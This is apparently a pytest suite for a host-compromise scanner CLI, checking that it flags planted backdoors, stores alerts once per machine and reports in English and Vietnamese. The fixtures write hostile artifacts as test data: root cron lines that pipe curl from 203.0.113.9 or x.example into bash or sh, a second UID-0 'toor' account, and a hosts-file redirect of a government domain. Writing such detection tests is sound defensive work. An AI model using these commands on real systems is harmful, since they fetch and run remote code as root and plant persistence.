"""`scan --host-checks` from outside: seen, told, kept as alerts of the machine, and nothing doubled."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support.cli_run import tell
from tests.support.host_tree import PASSWD, put, seen
from tests.support.ingest_case import new_workspace


@pytest.fixture
def root(tmp_path: Path) -> Path:
    put(tmp_path, "disk/etc/passwd", PASSWD + "toor:x:0:0::/root:/bin/bash\n")
    put(tmp_path, "disk/etc/cron.d/update", "*/5 * * * * root curl -s http://203.0.113.9/i.sh | bash\n")
    put(tmp_path, "disk/etc/hosts", "127.0.0.1 localhost\n203.0.113.9 dichvucong.backan.gov.vn\n")
    return tmp_path / "disk"


def test_observations_findings_and_the_account_as_json(root: Path, capsys: pytest.CaptureFixture) -> None:
    told = tell(capsys, "scan", "--only-host", "--no-store", "--json", "--root", root)
    *lines, account = told.checked("scan")
    found = {one["rule"]: one for one in lines if one["kind"] == "detection"}
    assert set(found) == {"host.command-download-run", "host.account-second-root", "host.hosts-redirect-state"}
    assert found["host.account-second-root"]["severity"] == "critical"
    assert account["detections"] == 3
    assert account["severities"] == {"critical": 1, "high": 1, "medium": 1}
    assert account["files"]["found"] == 0
    assert account["host"] == {
        "seen": len(lines) - 3 - len(account["not_judged"]),
        "found": 3,
        "missed": len(account["not_judged"]),
    }
    assert {one["column"] for one in account["not_judged"]} == {"host"}
    assert any(one["kind"] == "host-observation" and one["subject"] == "daemon" for one in lines)
    assert {one["subject"] for one in lines if one["kind"] == "host-problem"} == {
        one.subject for one in seen(root) if one.kind == "problem"
    }


def test_lists_are_heard(root: Path, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    (tmp_path / "bad.csv").write_text("type,value,description\nipv4-addr,203.0.113.9,C2\n")
    words = ("--root", root, "--check", "cron", "--indicators", tmp_path / "bad.csv")
    told = tell(capsys, "scan", "--only-host", "--no-store", "--json", *words)
    assert "host.known-bad:203.0.113.9" in {one["rule"] for one in told.checked("scan") if one["kind"] == "detection"}
    assert told.code == 1


def test_findings_become_alerts_of_that_machine_once(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    monkeypatch.chdir(new_workspace(tmp_path / "w"))
    words = ("scan", "--only-host", "--root", root, "--host", "pc-17.bac-kan.example", "--check", "accounts", "--json")
    first = tell(capsys, *words).checked("scan")[-1]
    again = tell(capsys, *words).checked("scan")[-1]
    assert (first["stored"]["alerts"], again["stored"]["alerts"]) == (1, 0)
    assert again["stored"]["known"] == 1
    alerts = tell(capsys, "alert", "list", "--json").lines()
    assert [(one["rule_id"], one["victim"]) for one in alerts] == [
        ("host.account-second-root", "pc-17.bac-kan.example")
    ]
    kept = tell(capsys, "scan", "--host-records", str(first["stored"]["run"]), "--json").checked("scan")
    assert {one["kind"] for one in kept} >= {"host-observation", "host-hit"}
    assert any(one["rule"] == "host.account-second-root" for one in kept)


def test_two_rules_on_one_thing_are_two_alerts(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    put(root, "/etc/cron.d/update", "* * * * * root curl http://x.example/a | sh; /tmp/b\n")
    monkeypatch.chdir(new_workspace(tmp_path / "w"))
    last = tell(capsys, "scan", "--only-host", "--root", root, "--host", "pc", "--check", "cron", "--json").checked(
        "scan"
    )[-1]
    assert last["stored"]["alerts"] == 2


def test_words_that_do_not_fit_together(root: Path, capsys: pytest.CaptureFixture) -> None:
    assert tell(capsys, "scan", root, "--only-host").code == 2
    assert tell(capsys, "scan", root, "--memory").code == 2
    refused = tell(capsys, "scan", "--only-host", "--check", "no-such", "--no-store")
    assert refused.code == 2
    assert "processes" in refused.err


def test_reasons_are_told_in_vietnamese(root: Path, capsys: pytest.CaptureFixture) -> None:
    told = tell(capsys, "--lang", "vi", "scan", "--only-host", "--no-store", "--root", root, "--check", "accounts")
    assert "Tài khoản thứ hai có toàn quyền" in told.out.replace("\n", " ")
    assert "Máy: đã xem 5 mục, 1 mục đáng ngờ" in told.out
    assert "accounts: /etc/shadow: đã biến mất" in told.err


def test_alerts_say_what_and_why_and_what_looks_the_same(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    monkeypatch.chdir(new_workspace(tmp_path / "w"))
    tell(capsys, "scan", "--only-host", "--root", root, "--host", "pc-17.bac-kan.example", "--check", "accounts")
    (alert,) = tell(capsys, "alert", "list", "--json").lines()
    shown = tell(capsys, "--lang", "vi", "alert", "show", alert["number"]).out
    for text in ("Tài khoản thứ hai có toàn quyền", "Số người dùng là 0 như root", "trường hợp vô hại: Hệ thống cũ"):
        assert text in shown


def test_one_line_does_not_call_complete_what_could_not_be_looked_at(root: Path, capsys: pytest.CaptureFixture) -> None:
    told = tell(capsys, "scan", "--only-host", "--no-store", "--quiet", "--root", root, "--check", "accounts")
    assert told.code == 2
    assert "with holes (2 not judged)" in told.out
    told = tell(capsys, "scan", "--only-host", "--no-store", "--quiet", "--root", root, "--check", "cron")
    assert "1 finding, complete" in told.out
    assert told.code == 1
